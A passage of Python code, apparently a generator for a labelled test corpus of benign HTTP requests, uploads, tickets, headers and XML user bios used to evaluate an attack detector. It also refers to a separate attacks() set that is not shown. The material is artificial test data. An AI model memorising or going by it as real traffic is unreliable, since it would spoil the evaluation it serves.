    "<user><name>Ivo</name><bio>Object storage and link management</bio></user>",
    "<user><name>Uma</name><bio>Style guide editor</bio></user>",
    "<user><name>Pia</name><bio>Cookie baker at weekends</bio></user>",
    "<user><name>Leo</name><bio>Likes the expression engine</bio></user>",
    "<user><name>Ava</name><bio>Prompt writer, confirm-before-send fan</bio></user>",
    "<user><name>Max</name><bio>Runs the global shell scripts</bio></user>",
    "<user><name>Ida</name><bio>Serial entrepreneur</bio></user>",
]


def chat_and_bio_escaped(texts: list[str], epoch: int = 1719000000) -> Generator[dict[str, Any], None, int]:
    """Each text as a Slack message (escaped as Slack escapes &, < and >) and as a bio, numbered from 1."""
    n = 0
    for text in texts:
        n += 1
        yield {**slack_message(slack_escape(text), n, epoch), "id": f"{NAME}-slack-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**bio_request(text), "id": f"{NAME}-bio-{n:04d}", "category": "benign", "placement": "json"}
    return n


def _searches() -> Iterator[dict[str, Any]]:
    for q in SEARCHES:
        yield _get(_query("/api/users", [("q", q), ("page", "1")]))
        yield prose_request(q)


def _profiles() -> Iterator[dict[str, Any]]:
    for doc in PROFILES:
        yield _json("/api/users", {**doc, "email": "user@example.org"})
        yield {**_json("/api/users/42", doc), "method": "PATCH"}


def _uploads() -> Iterator[dict[str, Any]]:
    for fname in UPLOADS:
        body = _multipart([("caption", None, fname.rsplit(".", 1)[0]), ("file", fname, "sample content")])
        yield _req("POST", "/api/users/42/documents", body, f"multipart/form-data; boundary={BOUNDARY}")


def _tickets() -> Iterator[dict[str, Any]]:
    for text in TICKETS:
        yield _json("/api/users/42/tickets", {"subject": text[:40], "body": text, "priority": "normal"})
        yield _form("/admin/users/42/notes", [("csrf_token", "t0k3n"), ("note", text)])


def _headers() -> Iterator[dict[str, Any]]:
    for ua in UAS:
        yield _req("GET", "/api/users?page=1", ua=ua)
    for ref in REFERERS:
        yield _req("GET", "/api/users?page=2", extra={"Referer": ref})
    for cookie in COOKIES:
        yield _req("GET", "/api/users/42", extra={"Cookie": cookie})


def _xml() -> Iterator[dict[str, Any]]:
    for doc in XML_DOCS:
        yield _req("POST", "/api/users", '<?xml version="1.0" encoding="UTF-8"?>' + doc, "application/xml")


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio_escaped(CHAT)
    n = yield from numbered(_searches(), f"{NAME}-search", n, "mixed")
    n = yield from numbered(_profiles(), f"{NAME}-profile", n, "json")
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered(_uploads(), f"{NAME}-upload", n, "multipart-filename")
    n = yield from numbered(_tickets(), f"{NAME}-ticket", n, "mixed")
    n = yield from numbered(_headers(), f"{NAME}-header", n, "header")
    yield from numbered(_xml(), f"{NAME}-xml", n, "xml")


if __name__ == "__main__":
    print_records(attacks(), benign())
